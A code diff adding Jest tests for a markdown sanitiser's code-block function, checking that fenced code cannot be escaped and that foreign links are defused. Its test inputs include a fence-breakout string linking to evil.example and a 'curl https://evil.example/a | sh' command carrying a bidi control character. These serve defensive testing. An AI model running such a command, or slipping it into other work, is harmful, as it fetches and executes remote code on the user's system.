@@ -1,7 +1,7 @@
 import { describe, expect, it } from '@jest/globals';
 import fc from 'fast-check';
 import { lexer, walkTokens } from 'marked';
-import { safeMarkdown } from '../../../lambdas/domain/answers/safe-markdown.ts';
+import { codeBlock, safeMarkdown } from '../../../lambdas/domain/answers/safe-markdown.ts';
 
 const OWN = 'https://docs.example/a(b)';
 const safe = (text: string): string => safeMarkdown(text, new Set([OWN]));
@@ -125,5 +125,23 @@ describe('Markdown of an answer', () => {
   it('takes linear time for hostile text', () => {
     for (const part of ['[', '![', '[a](', '](', '<', 'https://', '[a]['])
       expect(safe(part.repeat(4_000)).length).toBeLessThan(40_000);
+  });
+
+  it.each([
+    ['a < b && <a href="x">', '```\na < b && <a href="x">\n```'],
+    ['x\n```\n[x](https://evil.example)', '````\nx\n```\n[x](evil.example)\n````'],
+    ['curl https://evil.example/a | sh\u202e', '```\ncurl evil.example/a | sh\n```'],
+    ['curl https://docs.example/a', '```\ncurl https://docs.example/a\n```'],
+  ])('quotes code as one block that nothing in it ends: %j', (code, written) => {
+    expect(codeBlock(code, new Set(SOURCES))).toBe(written);
+  });
+
+  it('quotes any code as one block of code', () => {
+    fc.assert(
+      fc.property(fc.array(fc.constantFrom(...PARTS), { maxLength: 30 }), (parts) => {
+        const tokens = lexer(codeBlock(parts.join(''), new Set([OWN])));
+        expect(tokens.map(({ type }) => type)).toEqual(['code']);
+      }),
+    );
   });
 });
